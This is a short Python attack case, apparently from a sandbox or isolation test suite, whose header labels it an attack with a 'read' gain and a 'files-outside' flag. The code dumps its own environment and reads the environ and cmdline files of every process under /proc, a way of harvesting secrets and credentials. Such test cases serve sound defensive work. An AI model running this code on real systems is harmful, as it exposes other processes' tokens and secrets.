# attack: Prints the environment of its own process and of all the others.
# gain: read
# expect: q01=3 q02=3 q03=3
# flag: files-outside

# %% after q01
import glob
import os

print(dict(os.environ))
for name in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(name, open(name, "rb").read())
    except OSError:
        continue
